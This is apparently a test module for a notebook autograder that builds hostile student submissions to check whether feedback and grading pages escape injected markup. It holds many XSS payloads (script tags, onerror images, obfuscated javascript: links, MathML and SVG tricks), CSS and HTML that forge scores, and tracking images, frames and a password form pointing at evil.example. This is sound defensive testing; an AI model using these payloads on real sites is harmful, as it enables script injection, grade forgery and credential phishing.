"""Class I: attacks on whoever opens a feedback page, a formgrader page or a handout."""

from __future__ import annotations

import nbformat

from tests.attacks.declare import attack
from tests.attacks.hostile import Submission

ALERT = "alert('owned')"
SCRIPT = f"<script>{ALERT}</script>"
IMAGE = f'<img src="x" onerror="{ALERT}">'


def _failing(sub: Submission, body: str, before: str = "") -> None:
    """Let the tested function fail with hostile words."""
    rows = "\n".join(f"    {row}" for row in body.split("\n"))
    sub.answer("q7-factorials", f"{before}\n\n\ndef factorials(*args, **kwargs):\n{rows}")


@attack("I", "live HTML", "an application/javascript output", on="q7_thread_pool")
def javascript_output(sub: Submission) -> None:
    sub.show({"application/javascript": ALERT, "text/plain": "x"})


@attack("I", "live HTML", "script in an HTML output", on="q7_thread_pool")
def html_output(sub: Submission) -> None:
    sub.show({"text/html": f"<b>fine</b>{SCRIPT}{IMAGE}", "text/plain": "x"})


@attack("I", "live HTML", "script in an SVG output", on="q7_thread_pool")
def svg_output(sub: Submission) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ALERT}">{SCRIPT}<foreignObject>{IMAGE}'
    sub.show({"image/svg+xml": svg + "</foreignObject></svg>"})


@attack(
    "I", "live HTML", "script in the width and the text of an image output", on="q7_thread_pool"
)
def image_metadata(sub: Submission) -> None:
    odd = {"width": f'1" onerror="{ALERT}', "height": f'1">{SCRIPT}', "alt": f'x"{SCRIPT}'}
    sub.show({"image/png": "aGVsbG8="}, {"image/png": odd, "width": f'1" onload="{ALERT}'})


@attack(
    "I",
    "live HTML",
    "an image whose content closes the attribute that it is in",
    on="q7_thread_pool",
)
def image_content(sub: Submission) -> None:
    sub.show({"image/png": f'"{IMAGE}', "image/jpeg": f'"><iframe srcdoc="{SCRIPT}">'})


@attack("I", "live HTML", "script in LaTeX and Markdown outputs", on="q7_thread_pool")
def text_outputs(sub: Submission) -> None:
    for kind in ("text/latex", "text/markdown", "application/json", "application/pdf"):
        sub.show({kind: f"$$x{SCRIPT}$$ {IMAGE} [a](javascript:{ALERT})"})


@attack("I", "live HTML", "script in printed text and on the error stream", on="q7_thread_pool")
def printed(sub: Submission) -> None:
    sub.add(f"import sys\nprint({SCRIPT + IMAGE!r})\nsys.stderr.write({SCRIPT + IMAGE!r})")


@attack(
    "I", "live HTML", "markup inside terminal escapes, and links of terminals", on="q7_thread_pool"
)
def terminal_escapes(sub: Submission) -> None:
    link = f"\x1b]8;;javascript:{ALERT}\x07x\x1b]8;;\x07"
    odd = f'\x1b[31{SCRIPT}m{link}\x1b[38;2;1;2;3"onload=x;m{IMAGE}\x1b[2J\x9b'
    sub.add(f"print({odd!r})")
    _failing(sub, f"raise ValueError({odd!r})")


@attack("I", "live HTML", "script in a Markdown cell", on="q7_thread_pool")
def markdown_script(sub: Submission) -> None:
    sub.write(f"Fine. {SCRIPT} {IMAGE}\n\n<details open ontoggle={ALERT}>x</details>")


@attack("I", "live HTML", "script in a written answer that is marked by hand", on="q7_thread_pool")
def written_answer(sub: Submission) -> None:
    sub.answer("q7-why-no-speedup", f"Because. {SCRIPT} {IMAGE} <svg onload={ALERT}>")


@attack(
    "I",
    "live HTML",
    "javascript: links in Markdown, disguised in several ways",
    on="q7_thread_pool",
)
def markdown_links(sub: Submission) -> None:
    sub.write(
        f"[a](javascript:{ALERT}) [b](JaVa&#x09;Script:{ALERT}) [c](&#1;javascript:{ALERT}) "
        f"[d](data:text/html,{SCRIPT}) [e](vbscript:x) <a href='java\nscript:{ALERT}'>f</a>\n\n"
        f"[g]: javascript:{ALERT}\n\n[g] <javascript:{ALERT}> ![h](javascript:{ALERT})"
    )


@attack("I", "live HTML", "CSS that hides the comments and rewrites the score", on="q7_thread_pool")
def markdown_style(sub: Submission) -> None:
    sub.write("<style>.score {display: none} h1::after {content: '100 of 100'}</style>")
    sub.write(
        '<div style="position:fixed;top:0;left:0;z-index:99;background:white">Score: 8 of 8</div>'
    )
    sub.write("<link rel=stylesheet href=https://evil.example/x.css>")


@attack("I", "live HTML", "images of another server tell who reads the page", on="q7_thread_pool")
def foreign_images(sub: Submission) -> None:
    sub.write(
        "![x](https://evil.example/pixel.png) ![y](//evil.example/y.png) "
        '<img src="https://evil.example/z.png" srcset="https://evil.example/2x.png 2x"> '
        '<video poster="https://evil.example/p.png"></video> <table background="//evil.example/b">'
        '<tr><td style="background:url(https://evil.example/c.png)">x</td></tr></table>'
    )
    sub.show({"text/html": '<img src="https://evil.example/out.png">'})


@attack(
    "I",
    "live HTML",
    "frames, forms, objects, a base and a refresh in Markdown",
    on="q7_thread_pool",
)
def markdown_frames(sub: Submission) -> None:
    sub.write(
        f'<iframe src="https://evil.example"></iframe><iframe srcdoc="{SCRIPT}"></iframe>'
        '<form action="https://evil.example"><input name="password"><button formaction="//x">Log in'
        '</button></form><object data="x.swf"></object><embed src="x"><base href="https://evil.example/">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example">'
    )


@attack(
    "I", "live HTML", "script through MathML, SVG and their ways back to HTML", on="q7_thread_pool"
)
def mathml(sub: Submission) -> None:
    odd = (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}"></math>'
        f'<math href="javascript:{ALERT}">x</math><maction actiontype="statusline#{ALERT}">y'
        f'<svg><a xlink:href="javascript:{ALERT}"><text y="9">z</text></a>'
        f'<animate attributeName="href" values="javascript:{ALERT}"/><style>{IMAGE}</style></svg>'
        f'<noscript><p title="</noscript>{IMAGE}"></noscript>'
    )
    sub.write(odd)
    sub.show({"text/html": odd})


@attack("I", "live HTML", "formulas that MathJax turns into links and styles", on="q7_thread_pool")
def mathjax(sub: Submission) -> None:
    sub.write(
        f"$\\href{{javascript:{ALERT}}}{{click}}$ $$\\style{{position:fixed;top:0}}{{8/8}}$$ "
        f"$\\require{{html}}\\cssId{{x}}{{y}}$ $x < {IMAGE} $ \\\\(a{SCRIPT}\\\\)"
    )


@attack("I", "live HTML", "an attached picture that is a page", on="q7_thread_pool")
def attachments(sub: Submission) -> None:
    sub.write("![a](attachment:a.svg) ![b](attachment:b.html)")
    sub.notebook.cells[2]["attachments"] = {
        "a.svg": {"image/svg+xml": f'x"><svg onload="{ALERT}">'},
        "b.html": {'text/html"onerror=': SCRIPT},
    }


@attack(
    "I",
    "live HTML",
    "a title, a language and a kernel with script in the metadata",
    on="q7_thread_pool",
)
def notebook_metadata(sub: Submission) -> None:
    close = f"</title></style>{SCRIPT}"
    sub.notebook.metadata["title"] = close
    sub.notebook.metadata["authors"] = [{"name": close}]
    sub.notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": close,
        "language": close,
    }
    sub.notebook.metadata["language_info"] = {
        "name": close,
        "codemirror_mode": close,
        "pygments_lexer": close,
    }


@attack("I", "live HTML", "widgets with a state of their own", on="q7_thread_pool")
def widgets(sub: Submission) -> None:
    kind = "application/vnd.jupyter.widget"
    view = {"model_id": f"m</script>{SCRIPT}", "version_major": 2, "version_minor": 0}
    sub.show({f"{kind}-view+json": view, "text/plain": "x"})
    state = {"m": {"model_name": "HTMLModel", "state": {"value": f"</script>{SCRIPT}{IMAGE}"}}}
    sub.notebook.metadata["widgets"] = {f"{kind}-state+json": {"state": state, "version_major": 2}}


@attack(
    "I",
    "live HTML",
    "outputs for plotly, vega, bokeh and things that nobody knows",
    on="q7_thread_pool",
)
def odd_formats(sub: Submission) -> None:
    for kind in (
        "application/vnd.plotly.v1+json",
        "application/vnd.vega.v5+json",
        f"text/{SCRIPT}",
    ):
        sub.show({kind: {"data": SCRIPT}, "text/html": f"<div>{SCRIPT}</div>"})
    sub.show({"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": ALERT})


@attack("I", "live HTML", "cell tags, ids and names with markup", on="q7_thread_pool")
def cell_metadata(sub: Submission) -> None:
    sub.write("text")
    for cell in sub.notebook.cells:
        cell.metadata["tags"] = [f'x" onclick="{ALERT}']
        cell.metadata["name"] = SCRIPT
        cell["id"] = f'{cell["id"][:20]}"><i'


@attack(
    "I", "live HTML", "pages, scripts and pictures among the submitted files", on="q7_thread_pool"
)
def submitted_pages(sub: Submission) -> None:
    for name in (
        "index.html",
        "thread_pool.html",
        "style.css",
        "custom.js",
        "picture.svg",
        "a.xhtml",
    ):
        sub.file(name, f"<html xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</html>")


@attack("I", "live HTML", "an error whose name, text and notes are markup", on="q7_thread_pool")
def markup_in_errors(sub: Submission) -> None:
    _failing(
        sub,
        f"error = Odd({SCRIPT + IMAGE!r})\nerror.__notes__ = [{SCRIPT!r}]\nraise error",
        f"Odd = type({SCRIPT!r}, (ValueError,), {{'__module__': {IMAGE!r}}})",
    )


@attack("I", "live HTML", "an error that renders itself as markup and escapes", on="q7_thread_pool")
def own_renderer(sub: Submission) -> None:
    _failing(
        sub,
        "raise Odd()",
        "class Odd(Exception):\n    def _render_traceback_(self):\n"
        f"        return [{SCRIPT + IMAGE!r}, '\\x1b[0m\\x1b]0;x\\x07<b>passed</b>']\n"
        f"    _repr_html_ = __str__ = lambda self: {SCRIPT + IMAGE!r}",
    )


@attack(
    "I", "live HTML", "values and type names with markup in a claim's message", on="q7_thread_pool"
)
def markup_in_values(sub: Submission) -> None:
    _failing(sub, f"return [type({IMAGE!r}, (), {{}})(), {SCRIPT!r}]")
    sub.answer(
        "q7-as-completed", f"def factorials_as_completed(*a, **k):\n    yield {SCRIPT!r}, {IMAGE!r}"
    )


@attack("I", "live HTML", "choices with markup, which the message repeats", on="q1_scenarios")
def markup_in_choices(sub: Submission) -> None:
    sub.answer("q1-choose", f"CHOICE = {{name: {SCRIPT + IMAGE!r} for name in WORKLOADS}}")


@attack(
    "I",
    "live HTML",
    "source lines with markup in the table of a schedule",
    on="q5_sharing_data",
    honest=1.0,
)
def markup_in_schedules(sub: Submission) -> None:
    sub.answer(
        "q5-counter",
        f"""
        class Counter:
            def __init__(self):
                self.value = 0

            def increment(self):
                seen = self.value; note = {SCRIPT + IMAGE!r}
                self.value = seen + 1; note = {f"</td></table>{SCRIPT}"!r}
                return seen + 1
        """,
    )


@attack(
    "I",
    "live HTML",
    "threads and functions with markup in their names, stuck for ever",
    on="q7_thread_pool",
)
def markup_in_names(sub: Submission) -> None:
    _failing(
        sub,
        f"thread = threading.Thread(target=threading.Event().wait, name={SCRIPT!r})\n"
        "thread.start()\nthread.join()",
    )
    sub.last(f"factorials.__name__ = factorials.__qualname__ = {IMAGE!r}")


@attack(
    "I",
    "live HTML",
    "a claim of its own: text that looks like verdicts and scores",
    on="q7_thread_pool",
)
def forged_verdicts(sub: Submission) -> None:
    html = "</div></div><h1>Score: 8.0 / 8.0</h1><form action='//evil.example'><input></form>"
    sub.write(html)
    sub.add(f"print({html!r})\nfrom IPython.display import HTML\ndisplay(HTML({html!r}))")


@attack(
    "I", "live HTML", "what a tested function displays is shown below the test", on="q7_thread_pool"
)
def displayed_when_tested(sub: Submission) -> None:
    _failing(
        sub,
        "from IPython.display import HTML, Javascript, SVG, display\n"
        f"display(HTML({SCRIPT + IMAGE!r}), Javascript({ALERT!r}))\n"
        f"display({{'text/html': {SCRIPT!r}}}, raw=True, metadata={{'isolated': True}})\nreturn []",
    )


@attack("I", "live HTML", "saved outputs of cells that are not run again", on="q7_thread_pool")
def saved_outputs(sub: Submission) -> None:
    for cell in sub.notebook.cells:
        if cell.cell_type == "code":
            data = {"text/html": SCRIPT + IMAGE, "application/javascript": ALERT}
            cell.outputs = [
                nbformat.v4.new_output("display_data", data),
                nbformat.v4.new_output(
                    "error", ename=SCRIPT, evalue=IMAGE, traceback=[SCRIPT, "\x1b[2J"]
                ),
            ]
            cell.execution_count = 1


@attack(
    "I",
    "live HTML",
    "raw cells for HTML, and cells with a Markdown attachment",
    on="q7_thread_pool",
)
def raw_cells(sub: Submission) -> None:
    for kind in ("text/html", "text/restructuredtext", "text/latex"):
        cell = nbformat.v4.new_raw_cell(SCRIPT + IMAGE, id=f"raw-{len(kind)}")
        cell.metadata |= {"raw_mimetype": kind, "format": kind}
        sub.notebook.cells.insert(3, cell)
